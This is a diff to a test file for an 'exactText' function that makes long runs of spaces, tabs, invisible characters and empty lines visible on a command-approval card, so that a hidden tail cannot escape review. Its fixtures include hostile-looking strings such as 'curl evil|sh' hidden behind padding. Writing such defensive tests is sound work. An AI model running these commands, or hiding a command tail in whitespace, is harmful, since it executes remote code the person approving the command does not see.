@@ -28,8 +28,8 @@ describe('exactText', () => {
   it('names a long run of spaces instead of letting it push the rest out of view', () => {
     const text = `echo hi${' '.repeat(800)}; evil`;
     const exact = exactText(text);
-    expect(exact.shown).toBe('echo hi⟨800 spaces⟩; evil');
-    expect(exact.concerns).toEqual(['it holds long runs of spaces that would push the rest out of view (shown as ⟨N spaces⟩)']);
+    expect(exact.shown).toBe('echo hi⟨800 blank characters⟩; evil');
+    expect(exact.concerns).toEqual(['it holds long runs of blank characters that would push the rest out of view (shown as ⟨N blank characters⟩)']);
     expect(exact.attach).toBe(true);
     const card = approvalCard(request(text), (u) => u);
     expect(card.attachment?.content).toBe(text);
@@ -57,6 +57,18 @@ describe('exactText', () => {
     expect(exact.shown.endsWith('…')).toBe(true);
     expect(exact.concerns[0]).toBe(`it is ${text.length.toLocaleString('en-US')} characters long, and the card shows only the first ${CARD_TEXT_MAX}`);
     expect(approvalCard(request(text), (u) => u).attachment?.content).toBe(text);
+  });
+
+  it('the same for tabs, wide, invisible or Braille blanks, and for runs of empty lines or many lines', () => {
+    expect(exactText(`echo hi${'\t'.repeat(150)}; curl evil|sh`)).toMatchObject({ shown: 'echo hi⟨150 blank characters⟩; curl evil|sh', attach: true });
+    expect(exactText(`echo hi${'\u2003\u00a0\u2800'.repeat(10)}; evil`)).toMatchObject({ shown: 'echo hi⟨30 blank characters⟩; evil', attach: true });
+    expect(exactText('echo hi\u00a0; evil')).toMatchObject({ shown: 'echo hi\\xa0; evil', attach: true });
+    expect(exactText(`echo hi${'\n'.repeat(300)}curl evil|sh`)).toMatchObject({ shown: 'echo hi\n⟨299 empty lines⟩\ncurl evil|sh', attach: true });
+    expect(exactText(Array.from({ length: 40 }, (_, i) => `echo ${i}`).join('\n')).concerns).toEqual(['it is 40 lines long']);
+    expect(exactText('a\ufe0fb\u2028c').shown).toBe('a\\ufe0fb\\u2028c');
+    // Nothing in the text can pose as one of these names.
+    expect(exactText('\u0000⟨3 blank characters⟩').shown).toBe('\\0⟨3 blank characters⟩');
+    expect(exactText('a\n\nb')).toEqual({ shown: 'a\n\nb', concerns: [], attach: false });
   });
 
   it('visible() keeps tabs, newlines and every printable character, and turns nothing else into them', () => {
